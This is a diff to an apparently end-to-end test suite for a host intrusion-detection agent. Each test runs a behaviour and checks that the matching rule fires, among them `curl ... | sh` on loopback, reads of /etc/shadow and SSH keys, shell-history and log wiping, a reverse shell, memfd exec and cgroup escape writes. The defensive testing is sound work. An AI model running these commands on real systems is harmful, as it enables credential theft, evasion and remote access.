@@ -1,12 +1,33 @@
-"""The bundled detection rules against real behaviour: the real probes, the real agent
+"""The bundled detection rules against real behaviour on the host: the real probes, the real agent
 (`nodewarden run --json`, no policy file: the bundled rules are on by default), real syscalls.
 
 Each behaviour runs in its own child process and must raise exactly one alert from that process,
-with the rule id, severity and MITRE technique of its rule; each benign look-alike must raise none.
-Network behaviour stays on loopback (a listener on 127.0.0.1 at a stratum port, not a pool). The
-cloud metadata rule is not exercised here: 169.254.169.254 is a real address outside this machine
-(tests/unit/test_detect_engine.py checks it on a synthetic event), and so is the container-only
-package-manager rule.
+with the rule id, severity and MITRE technique of its rule and the ancestry the test knows (the
+processes it put in between, then this test's own chain); each benign look-alike must raise none.
+Attacker tools are tests/behaviours/nwbehave.c (one syscall-level behaviour per subcommand, built
+static), copies of it under other names (the rules key on program names, as Falco's do), and
+ordinary commands. Network behaviour stays on loopback. Everything a behaviour changes is put back.
+
+53 behaviours for 31 rules: files (18): write, rename and chmod below /etc; write below /usr/lib and
+/root; shell history truncated by cp and by sh, deleted, symlinked to /dev/null; setuid and setgid
+bits (chmod u+s, g+s, a stat() mode); cron.d written and renamed into; a systemd timer;
+authorized_keys; .bashrc, .profile. Processes (5): exec from /dev/shm, /tmp and /var/tmp (the last
+two with nw.exec_from_tmp_on_host enabled), network tools, a miner command line. Network (2):
+stratum port, interpreter listening. Credentials (7): /etc/shadow, an SSH private key, AWS
+credentials, the service-account token by /var/run and /run, grep -r id_rsa, find -name *.pem.
+Privilege and evasion (11): fileless exec from a memfd, setuid(0) by a non-root caller, capset
+raising CAP_SYS_ADMIN as nobody, useradd / usermod / chpasswd / passwd USER, a log under /var/log
+truncated and removed, symlinks to /etc/shadow and /proc/1/root and a hard link to /etc/passwd.
+Escape (2): release_agent and notify_on_release of a cgroup v1 hierarchy. Execution (2): a shell run
+by nginx, `curl ... | sh`. Tracing (3): PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_TRACEME. Sockets (3):
+packet socket, raw socket, reverse shell (a socket dup'ed onto stdio). Kernel (1): a BPF program load.
+
+Not here: the container-scoped rules (mounts, namespaces, unexpected UDP, drifted binaries,
+interactive shells, remote copy tools, package managers, cloud metadata, module loads from a
+container: tests/e2e/test_detect_containers.py; on the host their look-alikes must stay quiet, tested
+below), the host module-load rule (this kernel has no init_module/finit_module: CONFIG_MODULES off),
+and core_pattern and the other /proc and /sys escape hooks (the file probe's default ignore prefixes
+drop writes there).
 """
 
 from __future__ import annotations
@@ -16,10 +37,12 @@ import shutil
 import socket
 import subprocess
 import textwrap
+import threading
 import uuid
 
 import pytest
 
+from tests.behaviours.build import build
 from tests.kernel.conftest import AgentProcess
 
 TAG = f"nwdet-{uuid.uuid4().hex[:8]}"
@@ -46,13 +69,18 @@ def scratch():
 
 
 def _alerts(agent, argv: list[str]) -> list[dict]:
-    """Run argv to its end; the alerts raised by it and its children (its exit record follows them)."""
+    """Run argv to its end; the alerts raised by it and its children (its exit record follows them).
+
+    The process is found by the pid it prints (a python snippet's last word, nwbehave's first line
+    `pid N`), else by its exec record's command line."""
     cmd = " ".join(argv)
     seen = len(agent.find(_exec_of(cmd)))  # the same command may have run before: take the new one
     p = subprocess.run(argv, capture_output=True, text=True, timeout=30)
     assert p.returncode == 0, p.stderr
     if argv[0] == PY:
         return _after_exit(agent, int(p.stdout.split()[-1]))
+    if p.stdout.startswith("pid "):
+        return _after_exit(agent, int(p.stdout.split()[1]))
     return _after_exit(agent, agent.wait_for(_exec_of(cmd), count=seen + 1)[-1]["process.pid"])
 
 
@@ -62,8 +90,39 @@ def _exec_of(cmd: str):
 
 def _after_exit(agent, pid: int) -> list[dict]:
     agent.wait_for(lambda r: r["event.name"] == "process.exit" and r["process.pid"] == pid)
+    _barrier(agent)
     return agent.find(lambda r: r["event.name"] == "alert" and (r["process.pid"] == pid
                                                                  or r.get("process.parent_pid") == pid))
+
+
+_BARRIERS = iter(range(1, 1 << 30))
+
+
+def _barrier(agent) -> None:
+    """Each probe family writes its own ring buffer, so a process's exit record can come before its
+    file, network or system records. One fresh event of each family from this process, awaited, means
+    everything that family wrote before it has been read and judged: its rings are first in, first out."""
+    n = next(_BARRIERS)
+    me = os.getpid()
+    mark = f"/run/{TAG}-barrier-{n}"
+    memfd = f"{TAG}-b{n}"
+    connect = lambda r: (r.get("process.pid") == me and r["event.name"] == "network.connect"  # noqa: E731
+                         and r.get("network.peer.port") == 1)
+    seen = len(agent.find(connect))
+    with open(mark, "w"):
+        pass
+    os.unlink(mark)
+    os.close(os.memfd_create(memfd))
+    s = socket.socket()
+    try:
+        s.connect(("127.0.0.1", 1))  # refused: nothing listens on port 1
+    except OSError:
+        pass
+    finally:
+        s.close()
+    agent.wait_for(lambda r: r["event.name"] == "system.memfd_create" and r.get("memfd.name") == memfd)
+    agent.wait_for(lambda r: r["event.name"] == "file.unlink" and r.get("file.path") == mark)
+    agent.wait_for(connect, count=seen + 1)
 
 
 # The system interpreter (Debian's python3, which scripts/setup.sh installs), not the venv's: a checkout
@@ -104,7 +163,7 @@ def _status(a: AgentProcess) -> dict:
 def _bundled() -> list[str]:
     from agent.policy.rules import default_section
 
-    return [r.id for r in default_section()[0].ruleset.rules]
+    return [r.id for r in default_section()[0].ruleset.rules if r.enabled]  # not those off by default
 
 
 def _one(alerts: list[dict], rule: str, severity: str, technique: str) -> dict:
@@ -121,6 +180,87 @@ def _home(scratch) -> str:
     os.makedirs(f"{d}/.ssh")
     scratch.append(d)
     return d
+
+
+@pytest.fixture(scope="module")
+def nwb():
+    """nwbehave (tests/behaviours/nwbehave.c) built into a directory of its own below /run: a program run
+    from /tmp is itself a bundled rule's business. Copies under other names go next to it (`_as`)."""
+    d = f"/run/{TAG}-bin"
+    path = build(d)
+    yield path
+    shutil.rmtree(d, ignore_errors=True)
+
+
+def _as(nwb: str, name: str, src: str | None = None) -> str:
+    """A copy of nwbehave (or of src) named `name`: the rules key on program names, as Falco's do."""
+    dst = os.path.join(os.path.dirname(nwb), name)
+    if not os.path.exists(dst):
+        shutil.copy(src or nwb, dst)
+    return dst
+
+
+def _comm(pid: int | str) -> str | None:
+    try:
+        with open(f"/proc/{pid}/comm") as f:
+            return f.read().strip()
+    except OSError:
+        return None
+
+
+def _ppid(pid: int | str) -> int:
+    with open(f"/proc/{pid}/stat") as f:
+        return int(f.read().rsplit(")", 1)[1].split()[1])
+
+
+def _my_chain() -> list[str]:
+    """This test process and its ancestors by name, nearest first (what a child's ancestry continues with)."""
+    names, pid = [], os.getpid()
+    while pid > 0 and len(names) < 16:
+        name = _comm(pid)
+        if name is None:
+            break
+        names.append(name)
+        pid = _ppid(pid)
+    return names
+
+
+def _ancestry(alert: dict, *via: str) -> None:
+    """The alert names its ancestry, parent first: the processes the test put in between (`via`), then
+    this test process and its own ancestors (cut where the agent's ancestry_max cuts)."""
+    names = alert["process.ancestors.name"]
+    want = [*via, *_my_chain()]
+    assert len(names) >= min(len(want), len(via) + 2), names
+    assert names == want[:len(names)], (names, want)
+
+
+_DETACH = """
+import os, sys
+argv = sys.argv[1:]
+r, w = os.pipe()
+mid = os.fork()
+if mid == 0:
+    if os.fork() == 0:
+        os.close(r)
+        while os.getppid() == mid:  # until the middle process is gone and this one is reparented
+            os.sched_yield()
+        os.write(w, str(os.getpid()).encode())
+        os.execv(argv[0], argv)  # the pipe is close-on-exec: the reader sees EOF at the exec
+    os._exit(0)
+os.close(w)
+os.waitpid(mid, 0)
+pid = b""
+while chunk := os.read(r, 64):
+    pid += chunk
+print(pid.decode())
+"""
+
+
+def _detached(argv: list[str]) -> list[str]:
+    """A python snippet that runs argv orphaned (reparented to init or a subreaper before it execs) and
+    prints its pid: its ancestry is then not this test's. Under `make test` a build tool is among this
+    test's ancestors, which a bundled rule reads as a build running what it built."""
+    return [PY, "-c", _DETACH, *argv]
 
 
 # -- files -----------------------------------------------------------------------------------------------
@@ -166,10 +306,20 @@ def test_shell_history_truncated_or_deleted(agent, scratch):
     with open(f"{h}/.bash_history", "w") as f:
         f.write("ls\n")
     assert _alerts(agent, _sh(f"echo whoami >> {h}/.bash_history")) == []  # appending: what shells do
-    a = _one(_alerts(agent, _sh(f": > {h}/.bash_history")), "nw.clear_shell_history", "high", "T1070.003")
+    a = _one(_alerts(agent, ["/bin/cp", "/dev/null", f"{h}/.bash_history"]), "nw.clear_shell_history", "high",
+             "T1070.003")  # cp opens its target with O_TRUNC (truncate(1) calls ftruncate instead)
     assert a["file.path"] == f"{h}/.bash_history"
+    _ancestry(a)
+    # dash keeps no .bash_history: its truncating one is the attack
+    _one(_alerts(agent, _sh(f": > {h}/.bash_history")), "nw.clear_shell_history", "high", "T1070.003")
+    # look-alike: bash truncating its own history is what it does at exit and on `history -w`; by choice
+    # not flagged (the rule's description says so), though `: > ~/.bash_history` typed in bash looks the same
+    assert _alerts(agent, ["/bin/bash", "-c", f": > {h}/.bash_history; :"]) == []
     a = _one(_alerts(agent, ["/bin/rm", f"{h}/.bash_history"]), "nw.clear_shell_history", "high", "T1070.003")
     assert a["trigger.name"] == "file.unlink"
+    a = _one(_alerts(agent, ["/bin/ln", "-sf", "/dev/null", f"{h}/.bash_history"]), "nw.clear_shell_history",
+             "high", "T1070.003")
+    assert a["trigger.name"] == "file.symlink"  # history sent to /dev/null from now on
 
 
 def test_setuid_bit_set_by_chmod(agent, scratch):
@@ -230,14 +380,43 @@ def test_shell_rc_modified(agent, scratch):
 # -- processes -------------------------------------------------------------------------------------------
 
 
-def test_exec_from_tmp_and_dev_shm(agent, scratch):
-    for d in ("/tmp", "/dev/shm", "/var/tmp"):
-        f = f"{d}/{TAG}-drop-{uuid.uuid4().hex[:6]}"
-        scratch.append(f)
-        shutil.copy("/bin/true", f)
+def _drop(scratch, d: str) -> str:
+    f = f"{d}/{TAG}-drop-{uuid.uuid4().hex[:6]}"
+    scratch.append(f)
+    shutil.copy("/bin/true", f)
+    return f
+
+
+def test_exec_from_dev_shm(agent, scratch):
+    for d in ("/dev/shm", "/run/shm"):
+        if not os.path.isdir(d) or (d == "/run/shm" and os.path.realpath(d) == "/dev/shm"):
+            continue
+        f = _drop(scratch, d)
         a = _one(_alerts(agent, [f, "--beacon"]), "nw.exec_from_writable_dir", "high", "T1059")
         assert a["process.executable.path"] == f
-    assert _alerts(agent, ["/bin/true", f"/tmp/{TAG}-not-run"]) == []  # /tmp in an argument only
+        _ancestry(a)  # memory-backed: flagged whoever runs it, a build as well
+    # look-alikes: on a host /tmp and /var/tmp belong to nw.exec_from_tmp_on_host, off by default
+    # (CI checkouts, venvs and builds run programs from there all day); /tmp in an argument only
+    for d in ("/tmp", "/var/tmp"):
+        assert _alerts(agent, _detached([_drop(scratch, d), "--beacon"])) == []
+    assert _alerts(agent, ["/bin/true", f"/tmp/{TAG}-not-run"]) == []
+
+
+def test_exec_from_tmp_on_host_when_enabled(tmp_path, scratch, nwb):
+    pol = tmp_path / "policy.yaml"
+    pol.write_text("detect:\n  enable: {ids: [nw.exec_from_tmp_on_host]}\n")
+    a = AgentProcess("--no-containers", "--policy", str(pol))
+    try:
+        for d in ("/tmp", "/var/tmp"):
+            f = _drop(scratch, d)
+            # orphaned: under `make test` a build tool is among this test's ancestors, which exempts it
+            al = _one(_alerts(a, _detached([f, "--beacon"])), "nw.exec_from_tmp_on_host", "medium", "T1059")
+            assert al["process.executable.path"] == f
+            assert not set(al["process.ancestors.name"]) & {"make", "python"}  # reparented before its exec
+        # look-alike: a build (make here) running what it built in /tmp
+        assert _alerts(a, [_as(nwb, "make"), "spawn", _drop(scratch, "/tmp")]) == []
+    finally:
+        a.stop()
 
 
 def test_network_tools_run(agent, scratch):
@@ -301,6 +480,293 @@ def test_interpreter_listening(agent):
         import socket
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0)); s.close()
     """)) == []  # bound, never listening
+
+
+# -- credentials (read-only opens of probes.watch_reads) -------------------------------------------------
+
+
+@pytest.fixture
+def made(scratch):
+    """makedirs that records what it created (top first), so only that is removed afterwards."""
+    def mk(path: str) -> str:
+        missing = []
+        p = path
+        while not os.path.exists(p):
+            missing.append(p)
+            p = os.path.dirname(p)
+        os.makedirs(path, exist_ok=True)
+        scratch.extend(reversed(missing))  # removed in reverse: deepest first ... the top last
+        return path
+    return mk
+
+
+def _write(path: str, text: str, mode: int = 0o600) -> str:
+    with open(path, "w") as f:
+        f.write(text)
+    os.chmod(path, mode)
+    return path
+
+
+def test_shadow_read(agent, nwb):
+    a = _one(_alerts(agent, ["/bin/cat", "/etc/shadow"]), "nw.sensitive_file_read", "high", "T1003.008")
+    assert (a["trigger.name"], a["file.path"]) == ("file.open", "/etc/shadow")
+    _ancestry(a)
+    assert _alerts(agent, ["/bin/cat", "/etc/passwd"]) == []
+    assert _alerts(agent, [_as(nwb, "sshd", "/bin/cat"), "/etc/shadow"]) == []  # an auth daemon: its job
+
+
+def test_private_key_and_cloud_credentials_read(agent, nwb, scratch, made):
+    ssh = made(f"/home/{TAG}-u/.ssh")  # /home/*/.ssh/ is watched
+    key = _write(f"{ssh}/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n")
+    _write(f"{ssh}/id_ed25519.pub", "ssh-ed25519 AAAA x\n", 0o644)
+    a = _one(_alerts(agent, ["/bin/cat", key]), "nw.sensitive_file_read", "high", "T1552.004")
+    assert a["file.path"] == key
+    _ancestry(a)
+    assert _alerts(agent, ["/bin/cat", f"{ssh}/id_ed25519.pub"]) == []  # the public half
+    assert _alerts(agent, [_as(nwb, "ssh-add", "/bin/cat"), key]) == []  # the client that uses keys
+    if os.path.exists("/root/.aws"):
+        return  # real credentials here: never touched
+    creds = _write(f"{made('/root/.aws')}/credentials", "[default]\naws_access_key_id = AKIAEXAMPLE\n")
+    a = _one(_alerts(agent, ["/bin/cat", creds]), "nw.sensitive_file_read", "high", "T1552.001")
+    assert a["file.path"] == creds
+    assert _alerts(agent, [_as(nwb, "aws", "/bin/cat"), creds]) == []
+
+
+def test_service_account_token_read(agent, nwb, made):
+    d = "/var/run/secrets/kubernetes.io/serviceaccount"
+    token = f"{d}/token"
+    if not os.path.exists(token):  # on a real node: read it, never replace it
+        _write(f"{made(d)}/token", "eyJhbGciOi.not-a-token\n")
+    for path in (token, token.replace("/var/run/", "/run/")):
+        a = _one(_alerts(agent, ["/bin/cat", path]), "nw.sa_token_read", "medium", "T1528")
+        assert a["file.path"] == path
+        _ancestry(a)
+    assert _alerts(agent, [_as(nwb, "kubectl", "/bin/cat"), token]) == []
+
+
+def test_search_for_secrets(agent, scratch):
+    d = f"/run/{TAG}-search-{uuid.uuid4().hex[:6]}"
+    os.makedirs(d)
+    scratch.append(d)
+    _write(f"{d}/notes", "hello id_rsa\nhello\n", 0o644)
+    _write(f"{d}/a.pem", "x\n", 0o644)
+    a = _one(_alerts(agent, ["/bin/grep", "-r", "id_rsa", d]), "nw.search_for_secrets", "medium", "T1552.001")
+    assert a["process.name"] == "grep"
+    _ancestry(a)
+    _one(_alerts(agent, ["/usr/bin/find", d, "-name", "*.pem"]), "nw.search_for_secrets", "medium", "T1552.001")
+    assert _alerts(agent, ["/bin/grep", "-r", "hello", d]) == []
+    assert _alerts(agent, ["/usr/bin/find", d, "-name", "*.txt"]) == []
+
+
+# -- fileless, privilege, users --------------------------------------------------------------------------
+
+
+def test_fileless_exec(agent, nwb):
+    a = _one(_alerts(agent, [nwb, "memfd-exec"]), "nw.fileless_exec", "critical", "T1620")
+    assert a["process.executable.memfd"] is True and a["trigger.name"] == "process.exec"
+    _ancestry(a)  # the exec keeps the pid: its parent is this test
+    assert _alerts(agent, [nwb, "memfd-noexec"]) == []  # a memfd filled, never run
+
+
+def test_setuid_to_root(agent, nwb):
+    a = _one(_alerts(agent, [nwb, "setuid-root"]), "nw.setuid_to_root", "high", "T1548")
+    assert (a["user.id"], a["setid.effective"], a["syscall.return"]) == (65534, 0, 0)
+    _ancestry(a)
+    assert _alerts(agent, [nwb, "setuid-drop"]) == []  # root dropping to nobody
+    assert _alerts(agent, [_as(nwb, "sudo"), "setuid-root"]) == []  # a setuid program whose job it is
+
+
+def test_capset_raise(agent, nwb):
+    a = _one(_alerts(agent, [nwb, "capset"]), "nw.capset_raise", "medium", "T1548")
+    assert a["user.id"] == 65534
+    assert a["capabilities.effective"] & (1 << 21)  # CAP_SYS_ADMIN
+    _ancestry(a)
+    assert _alerts(agent, [nwb, "capset-bind"]) == []  # nobody keeping only CAP_NET_BIND_SERVICE
+
+
+def test_user_management(agent, nwb):
+    for name in ("useradd", "usermod", "chpasswd"):
+        a = _one(_alerts(agent, [_as(nwb, name, "/bin/true"), "-m", f"{TAG}-eve"]), "nw.user_management",
+                 "medium", "T1136.001")
+        assert a["process.name"] == name
+        _ancestry(a)
+    passwd = _as(nwb, "passwd", "/bin/true")
+    _one(_alerts(agent, [passwd, f"{TAG}-eve"]), "nw.user_management", "medium", "T1136.001")
+    assert _alerts(agent, [passwd]) == []  # changing one's own password
+    assert _alerts(agent, [_as(nwb, "users", "/bin/true")]) == []
+
+
+# -- defense evasion -------------------------------------------------------------------------------------
+
+
+def test_log_cleared(agent, nwb, scratch):
+    log = f"/var/log/{TAG}-{uuid.uuid4().hex[:6]}.log"
+    scratch += [log, log + ".1"]
+    _write(log, "line\n", 0o644)
+    _write(log + ".1", "old\n", 0o644)
+    a = _one(_alerts(agent, _sh(f": > {log}")), "nw.log_cleared", "high", "T1070.002")
+    assert (a["trigger.name"], a["file.path"]) == ("file.open", log)
+    _ancestry(a)
+    assert _alerts(agent, _sh(f"echo more >> {log}")) == []  # appending: what loggers do
+    assert _alerts(agent, [nwb, "truncate", log + ".1"]) == []  # a rotated file
+    assert _alerts(agent, [_as(nwb, "logrotate"), "truncate", log]) == []
+    a = _one(_alerts(agent, ["/bin/rm", log]), "nw.log_cleared", "high", "T1070.002")
+    assert a["trigger.name"] == "file.unlink"
+
+
+def test_link_to_sensitive_file(agent, nwb, scratch):
+    d = f"/var/tmp/{TAG}-links-{uuid.uuid4().hex[:6]}"  # the root filesystem's: a hard link needs /etc's
+    os.makedirs(d)
+    scratch.append(d)
+    a = _one(_alerts(agent, ["/bin/ln", "-s", "/etc/shadow", f"{d}/s"]), "nw.link_to_sensitive_file", "high",
+             "T1222")
+    assert (a["trigger.name"], a["file.path"], a["file.link.target"]) == ("file.symlink", f"{d}/s", "/etc/shadow")
+    _ancestry(a)
+    a = _one(_alerts(agent, [nwb, "hardlink", "/etc/passwd", f"{d}/p"]), "nw.link_to_sensitive_file", "high",
+             "T1222")
+    assert (a["trigger.name"], a["file.link.target"]) == ("file.link", "/etc/passwd")
+    _one(_alerts(agent, [nwb, "symlink", "/proc/1/root", f"{d}/r"]), "nw.link_to_sensitive_file", "high", "T1222")
+    assert _alerts(agent, ["/bin/ln", "-s", "/etc/hostname", f"{d}/h"]) == []
+    _write(f"{d}/plain", "x\n", 0o644)
+    assert _alerts(agent, [nwb, "hardlink", f"{d}/plain", f"{d}/plain2"]) == []
+
+
+def test_container_escape_write(agent, nwb, scratch):
+    """A release_agent of a cgroup v1 hierarchy mounted by the test (the classic escape mounts one), opened
+    for writing and closed unwritten: the kernel's hooks stay as they were. /proc/sys/kernel/core_pattern is
+    not used: the file probe's default ignore prefixes (/proc/, /sys/) hide writes there."""
+    d = f"/run/{TAG}-cg-{uuid.uuid4().hex[:6]}"
+    os.makedirs(d)
+    scratch.append(d)
+    if subprocess.run(["mount", "-t", "cgroup", "-o", f"none,name={TAG}", "cgroup", d]).returncode != 0:
+        pytest.skip("this kernel mounts no cgroup v1 hierarchy")
+    try:
+        a = _one(_alerts(agent, [nwb, "write", f"{d}/release_agent"]), "nw.container_escape_write", "critical",
+                 "T1611")
+        assert (a["trigger.name"], a["file.path"]) == ("file.open", f"{d}/release_agent")
+        _ancestry(a)
+        _one(_alerts(agent, [nwb, "write", f"{d}/notify_on_release"]), "nw.container_escape_write", "critical",
+             "T1611")
+        assert _alerts(agent, [nwb, "write", f"{d}/cgroup.clone_children"]) == []
+    finally:
+        subprocess.run(["umount", d])
+
+
+# -- execution -------------------------------------------------------------------------------------------
+
+
+def test_shell_from_a_server(agent, nwb):
+    a = _one(_alerts(agent, [_as(nwb, "nginx"), "spawn", "/bin/sh", "-c", "echo hi"]), "nw.shell_from_server",
+             "high", "T1505.003")
+    assert a["process.name"] == "sh"
+    _ancestry(a, "nginx")
+    assert a["process.ancestors.executable.path"][0] == os.path.join(os.path.dirname(nwb), "nginx")
+    assert _alerts(agent, [_as(nwb, "myapp"), "spawn", "/bin/sh", "-c", "echo hi"]) == []
+
+
+def test_download_piped_to_shell(agent):
+    # nothing listens on the discard port: curl fails at once and sh reads an empty script
+    a = _one(_alerts(agent, ["/bin/sh", "-c", "curl -fsS http://127.0.0.1:9/i.sh | sh"]),
+             "nw.download_piped_to_shell", "high", "T1105")
+    assert a["process.command_line"] == "/bin/sh -c curl -fsS http://127.0.0.1:9/i.sh | sh"
+    _ancestry(a)
+    assert _alerts(agent, ["/bin/sh", "-c", "curl -fsS http://127.0.0.1:9/i.sh | grep -c x; :"]) == []
+
+
+# -- processes tracing each other ------------------------------------------------------------------------
+
+
+def test_ptrace_attach(agent, nwb):
+    a = _one(_alerts(agent, [nwb, "ptrace-attach"]), "nw.ptrace_attach", "high", "T1055.008")
+    assert a["ptrace.request"] == 16 and a["target.pid"] > 0  # PTRACE_ATTACH to its own child
+    _ancestry(a)
+    a = _one(_alerts(agent, [nwb, "ptrace-seize"]), "nw.ptrace_attach", "high", "T1055.008")
+    assert a["ptrace.request"] == 0x4206
+    assert _alerts(agent, [_as(nwb, "gdb"), "ptrace-attach"]) == []  # a debugger
+    assert _alerts(agent, [_as(nwb, "strace"), "ptrace-seize"]) == []
+
+
+def test_ptrace_anti_debug(agent, nwb):
+    a = _one(_alerts(agent, [nwb, "ptrace-traceme"]), "nw.ptrace_anti_debug", "medium", "T1622")
+    assert a["ptrace.request"] == 0
+    _ancestry(a)
+    # a debugger's child asks to be traced: how gdb and strace start their target
+    assert _alerts(agent, [_as(nwb, "gdb"), "spawn", nwb, "ptrace-traceme"]) == []
+
+
+# -- network (loopback only) -----------------------------------------------------------------------------
+
+
+def test_packet_and_raw_sockets(agent, nwb):
+    a = _one(_alerts(agent, [nwb, "packet-socket"]), "nw.packet_socket", "medium", "T1040")
+    assert a["network.type"] == "packet"
+    _ancestry(a)
+    a = _one(_alerts(agent, [nwb, "raw-socket"]), "nw.packet_socket", "medium", "T1040")
+    assert a["network.transport"] == "raw"
+    assert _alerts(agent, [nwb, "tcp-socket"]) == [] and _alerts(agent, [nwb, "udp-socket"]) == []
+    assert _alerts(agent, [_as(nwb, "dhclient"), "packet-socket"]) == []  # a DHCP client's job
+
+
+def test_reverse_shell(agent, nwb):
+    srv = _listener((0,))
+    port = srv.getsockname()[1]
+    got: list[bytes] = []
+
+    def serve():
+        c, _ = srv.accept()
+        with c:
+            got.append(c.recv(100))
+
+    def run(sub: str) -> list[dict]:
+        t = threading.Thread(target=serve, daemon=True)
+        t.start()
+        try:
+            return _alerts(agent, [nwb, sub, "127.0.0.1", str(port)])
+        finally:
+            t.join(10)
+
+    try:
+        alerts = run("reverse-shell")
+        # dup2 onto 0, 1 and 2: while the rule's output names the fd the three are distinct alerts (no
+        # folding); once it does not, they fold into one. Either way each is the rule's, one per stdio fd.
+        assert sorted(x["network.dup.new_fd"] for x in alerts) in ([0], [0, 1, 2]), alerts
+        a = _one(alerts[:1], "nw.reverse_shell", "critical", "T1059.004")
+        assert {x["rule.id"] for x in alerts} == {"nw.reverse_shell"}
+        assert (a["network.peer.address"], a["network.peer.port"]) == ("127.0.0.1", port)
+        assert a["trigger.name"] == "network.dup"
+        _ancestry(a)
+        assert got == [b"hi\n"]  # the shell ran on the socket
+        assert run("dup-socket-high") == []  # a socket onto fd 10, not stdio
+    finally:
+        srv.close()
+    assert _alerts(agent, [nwb, "dup-pipe"]) == []  # a pipe onto stdout: every shell pipeline
+
+
+# -- kernel ----------------------------------------------------------------------------------------------
+
+
+def test_bpf_program_load(agent, nwb):
+    a = _one(_alerts(agent, [nwb, "bpf-load"]), "nw.bpf_program_load", "medium", "T1014")
+    assert (a["bpf.program.name"], a["bpf.program.type"]) == ("nwbehave", 1)  # BPF_PROG_TYPE_SOCKET_FILTER
+    _ancestry(a)
+    assert _alerts(agent, [_as(nwb, "bpftool"), "bpf-load"]) == []
+
+
+def test_container_only_rules_stay_quiet_on_the_host(agent, nwb, scratch):
+    """The look-alikes of the container-scoped rules: mounts, namespaces and UDP to any port are an admin's
+    ordinary work on a host (the container suite, tests/e2e/test_detect_containers.py, raises them)."""
+    d = f"/run/{TAG}-mnt-{uuid.uuid4().hex[:6]}"
+    os.makedirs(d)
+    scratch.append(d)
+    assert _alerts(agent, [nwb, "mount-tmpfs", d]) == []
+    assert _alerts(agent, [nwb, "unshare-net"]) == [] and _alerts(agent, [nwb, "unshare-mnt"]) == []
+    assert _alerts(agent, [nwb, "setns-self"]) == []
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.bind(("127.0.0.1", 0))
+    try:
+        assert _alerts(agent, [nwb, "udp-send", "127.0.0.1", str(u.getsockname()[1])]) == []
+    finally:
+        u.close()
 
 
 # -- the rules as policy, hot-reloaded in the running agent ----------------------------------------------
